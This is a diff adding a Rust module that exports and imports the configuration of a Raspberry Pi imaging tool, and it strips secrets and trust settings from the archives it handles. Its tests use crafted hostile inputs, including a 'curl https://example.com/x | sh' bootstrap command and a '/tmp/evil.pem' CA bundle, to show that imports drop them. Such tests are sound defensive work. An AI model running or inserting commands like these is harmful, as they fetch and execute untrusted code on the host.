@@ -0,0 +1,223 @@
+//! Moving the tool's configuration between machines. `--export-config FILE`
+//! bundles everything under ~/.config/rpi-imager-tui that is worth keeping,
+//! the config, the presets and the flash history, into a single JSON
+//! archive, leaving out passwords and machine-specific paths (the cache and
+//! extra boot files). What decides which servers are trusted and what runs
+//! on the host (the bootstrap command, OS sources, download mirrors, CA
+//! bundle and certificate pins) stays out too, so importing an archive
+//! from someone else can't change it. `--import-config FILE` restores it on
+//! the other machine.
+
+use crate::customization::CustomizationOptions;
+use crate::flash_db::FlashDatabase;
+use crate::presets::Presets;
+use anyhow::{Context, Result, bail};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::Path;
+
+const VERSION: u32 = 1;
+
+#[derive(Serialize, Deserialize)]
+struct Archive {
+    version: u32,
+    config: CustomizationOptions,
+    #[serde(default)]
+    presets: BTreeMap<String, CustomizationOptions>,
+    #[serde(default)]
+    flashed_cards: FlashDatabase,
+}
+
+/// The options as they go into an archive.
+fn exported(mut config: CustomizationOptions) -> CustomizationOptions {
+    config.password = None;
+    config.wifi_password.clear();
+    config.cache_dir = None;
+    config.stats_file = None;
+    config.extra_files.clear();
+    config.bootstrap_command = None;
+    config.os_sources.clear();
+    config.download_mirrors.clear();
+    config.ca_bundle = None;
+    config.pinned_certificates.clear();
+    config
+}
+
+/// Imported options, keeping what the archive leaves out from the local ones.
+fn imported(
+    mut config: CustomizationOptions,
+    local: &CustomizationOptions,
+) -> CustomizationOptions {
+    if config.password.is_none() {
+        config.password = local.password.clone();
+    }
+    if config.wifi_password.is_empty() && config.wifi_ssid == local.wifi_ssid {
+        config.wifi_password = local.wifi_password.clone();
+    }
+    if config.sealed_secrets.is_none() {
+        config.sealed_secrets = local.sealed_secrets.clone();
+    }
+    config.cache_dir = local.cache_dir.clone();
+    config.stats_file = local.stats_file.clone();
+    config.extra_files = local.extra_files.clone();
+    config.bootstrap_command = local.bootstrap_command.clone();
+    config.os_sources = local.os_sources.clone();
+    config.download_mirrors = local.download_mirrors.clone();
+    config.ca_bundle = local.ca_bundle.clone();
+    config.pinned_certificates = local.pinned_certificates.clone();
+    config
+}
+
+/// The saved presets by name, as they go into an archive.
+fn exported_presets(presets: &Presets) -> Result<BTreeMap<String, CustomizationOptions>> {
+    presets
+        .names()
+        .into_iter()
+        .map(|name| Ok((name.clone(), exported(presets.load(&name)?))))
+        .collect()
+}
+
+/// Saves the presets of an archive, replacing local ones of the same name.
+/// They are stripped like an export, in case the archive wasn't made by one.
+fn import_presets(
+    presets: &Presets,
+    archived: BTreeMap<String, CustomizationOptions>,
+) -> Result<()> {
+    for (name, preset) in archived {
+        presets.save(&name, &exported(preset))?;
+    }
+    Ok(())
+}
+
+pub fn export(path: &Path) -> Result<()> {
+    let archive = Archive {
+        version: VERSION,
+        config: exported(CustomizationOptions::load()),
+        presets: match Presets::open() {
+            Some(presets) => exported_presets(&presets)?,
+            None => BTreeMap::new(),
+        },
+        flashed_cards: FlashDatabase::load(),
+    };
+    let json = serde_json::to_string_pretty(&archive)?;
+    std::fs::write(path, json).with_context(|| format!("Failed to write {}", path.display()))
+}
+
+/// Replaces the options and the presets of the same names, and merges the
+/// flash history, where the newer record of a card wins.
+pub fn import(path: &Path) -> Result<()> {
+    let json = std::fs::read(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    let archive: Archive = serde_json::from_slice(&json)
+        .with_context(|| format!("{} is not a configuration archive", path.display()))?;
+    if archive.version > VERSION {
+        bail!(
+            "{} was exported by a newer version (format {}), please update",
+            path.display(),
+            archive.version
+        );
+    }
+
+    let local = CustomizationOptions::load();
+    if let Some(error) = crate::customization::config_error() {
+        bail!(error);
+    }
+    imported(archive.config, &local).save();
+    if let Some(presets) = Presets::open() {
+        import_presets(&presets, archive.presets)?;
+    }
+
+    let mut db = FlashDatabase::load();
+    for (serial, record) in archive.flashed_cards.cards {
+        if db
+            .cards
+            .get(&serial)
+            .is_none_or(|local| local.flashed_at < record.flashed_at)
+        {
+            db.cards.insert(serial, record);
+        }
+    }
+    db.save();
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn secrets_and_paths_stay_on_the_machine() {
+        let local = CustomizationOptions {
+            password: Some("local".to_string()),
+            wifi_ssid: "home".to_string(),
+            wifi_password: "wifi-secret".to_string(),
+            cache_dir: Some("/data/cache".to_string()),
+            download_mirrors: vec!["https://mirror.local/rpi".to_string()],
+            ..CustomizationOptions::default()
+        };
+
+        let archived = exported(CustomizationOptions {
+            hostname: "kiosk".to_string(),
+            ..local.clone()
+        });
+        assert_eq!(archived.password, None);
+        assert!(archived.wifi_password.is_empty());
+        assert_eq!(archived.cache_dir, None);
+
+        let restored = imported(archived.clone(), &local);
+        assert_eq!(restored.hostname, "kiosk");
+        assert_eq!(restored.password.as_deref(), Some("local"));
+        assert_eq!(restored.wifi_password, "wifi-secret");
+        assert_eq!(restored.cache_dir.as_deref(), Some("/data/cache"));
+        assert_eq!(restored.download_mirrors, local.download_mirrors);
+
+        // Nor can an archive bring its own trust or commands along
+        let crafted = CustomizationOptions {
+            bootstrap_command: Some("curl https://example.com/x | sh".to_string()),
+            ca_bundle: Some("/tmp/evil.pem".to_string()),
+            pinned_certificates: vec!["00".repeat(32)],
+            download_mirrors: vec!["https://example.com".to_string()],
+            ..archived.clone()
+        };
+        let restored = imported(crafted, &local);
+        assert_eq!(restored.bootstrap_command, None);
+        assert_eq!(restored.ca_bundle, None);
+        assert!(restored.pinned_certificates.is_empty());
+        assert_eq!(restored.download_mirrors, local.download_mirrors);
+
+        // A different network doesn't get this machine's Wi-Fi password
+        let other = CustomizationOptions {
+            wifi_ssid: "office".to_string(),
+            ..archived
+        };
+        assert!(imported(other, &local).wifi_password.is_empty());
+    }
+
+    #[test]
+    fn carries_the_presets() {
+        let dir = tempfile::tempdir().unwrap();
+        let here = Presets::at(dir.path().join("here"));
+        let kiosk = CustomizationOptions {
+            hostname: "kiosk".to_string(),
+            wifi_password: "not exported".to_string(),
+            remember_secrets: true,
+            cache_dir: Some("/data/cache".to_string()),
+            bootstrap_command: Some("ansible-playbook site.yml".to_string()),
+            ..CustomizationOptions::default()
+        };
+        here.save("kiosk", &kiosk).unwrap();
+
+        let mut archived = exported_presets(&here).unwrap();
+        assert_eq!(archived["kiosk"].hostname, "kiosk");
+        assert!(archived["kiosk"].wifi_password.is_empty());
+        assert_eq!(archived["kiosk"].cache_dir, None);
+        assert_eq!(archived["kiosk"].bootstrap_command, None);
+
+        archived.get_mut("kiosk").unwrap().bootstrap_command = Some("sh -c id".to_string());
+        let there = Presets::at(dir.path().join("there"));
+        import_presets(&there, archived).unwrap();
+        assert_eq!(there.names(), ["kiosk"]);
+        let imported = there.load("kiosk").unwrap();
+        assert_eq!(imported.hostname, "kiosk");
+        assert_eq!(imported.bootstrap_command, None);
+    }
+}